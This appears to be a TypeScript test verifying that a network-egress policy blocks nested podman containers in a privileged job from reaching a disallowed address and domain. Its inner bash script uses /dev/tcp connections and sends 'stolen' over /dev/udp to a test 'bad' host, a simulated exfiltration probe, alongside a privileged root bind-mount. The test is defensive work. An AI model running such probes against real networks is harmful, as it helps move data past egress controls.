/** A job that runs containers with a real engine: they are held as the job is, and look names up as it does. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { bad, good, setScene, skip } from './scene.ts';

/** In a container on podman's own bridge: an allowed place, one that is not, by address and by name, and a datagram. */
const inner = `
  get() { exec 3<> "/dev/tcp/$1/${good.port}" && printf 'GET /%s HTTP/1.0\\r\\n\\r\\n' "$2" >&3 && grep -q ok <&3; }
  get ${good.name} "$0-good" && echo allowed
  export -f get; timeout 3 bash -c 'get ${bad.address} "$0-bad"' "$0" && echo through || echo refused
  getent hosts ${bad.name}. || echo unknown
  echo stolen > /dev/udp/${bad.address}/9; echo sent`;
/** Its files are the job's own: what counts here is its network. */
const run = `mount --bind / /mnt && podman run --rm --network=bridge --rootfs /mnt bash -c "$1" "$0"`;

test('containers of podman in a job', { skip }, async (t) => {
  const { cluster, internet, agent, both, asked } = await setScene(t);
  const image = await cluster.image('podman');
  const seen = asked();
  const before = internet.packetsTo(bad.address, 9);
  const { free, held } = await both({
    image,
    command: ['bash', '-c', run, 'nested', inner],
    container: { securityContext: { privileged: true } },
  });
  for (const word of ['allowed', 'through', 'sent']) {
    assert.match(free.log, new RegExp(`^${word}$`, 'm'), free.log);
  }
  assert.doesNotMatch(free.log, /refused|unknown/);
  for (const word of ['allowed', 'refused', 'unknown', 'sent']) {
    assert.match(held.log, new RegExp(`^${word}$`, 'm'), held.log);
  }
  assert.deepEqual(seen(), ['/nested-bad', '/nested-good', '/nested-good']);
  assert.equal(internet.packetsTo(bad.address, 9), before + 1, 'the free one’s, and no other');
  const refused = agent.rows(held.name).filter(({ action }) => action === 'block');
  assert.ok(refused.some(({ ip, port }) => ip === bad.address && port === bad.port));
  assert.ok(refused.some(({ domain }) => domain === bad.name));
});
